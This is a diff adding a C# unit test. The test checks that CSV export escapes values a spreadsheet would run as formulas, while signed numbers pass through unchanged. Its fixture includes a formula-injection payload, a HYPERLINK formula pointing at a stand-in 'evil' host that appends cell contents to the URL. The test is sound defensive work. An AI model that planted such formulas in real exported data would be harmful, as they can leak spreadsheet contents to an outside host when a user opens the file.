@@ -122,6 +122,29 @@ public class TextTableTests
         Assert.Equal("two\nlines\\x1B", TerminalText.Printable("two\nlines\u001b", keepLineBreaks: true));
     }
 
+    /// <summary>A name a spreadsheet would run as a formula is written as text in CSV; figures keep their sign, other text stays as stored.</summary>
+    [Fact]
+    public void A_name_that_starts_like_a_formula_is_written_to_CSV_as_text_and_numbers_keep_their_sign()
+    {
+        var records = new[]
+        {
+            new { Name = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")", Profit = -12.5m, Change = "-3.5%" },
+            new { Name = "@SUM(1+1)", Profit = 3m, Change = "+1,234.50" },
+            new { Name = "-pre-order", Profit = 0m, Change = "\tTAB" },
+        };
+        using var output = new StringWriter();
+        using var error = new StringWriter();
+
+        new CommandOutput(output, error).Success(OutputFormat.Csv, records, [new TableView(["Name"], [], Records: records)], new Dictionary<string, object?>());
+        using var rows = new StringWriter();
+        new CommandOutput(rows, error).Success(OutputFormat.Csv, records, [new TableView(["Name", "Change"], [["=1+1", "-3.5%"], ["plain", "-1,234.50"]])],
+            new Dictionary<string, object?>());
+
+        Assert.Equal(string.Join("\r\n", "name,profit,change", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\",-12.5,-3.5%",
+            "'@SUM(1+1),3,\"+1,234.50\"", "'-pre-order,0,'\tTAB", ""), output.ToString());
+        Assert.Equal(string.Join("\r\n", "Name,Change", "'=1+1,-3.5%", "plain,\"-1,234.50\"", ""), rows.ToString());
+    }
+
     [Fact]
     public async Task An_error_quoting_a_control_character_is_printed_with_its_escape()
     {
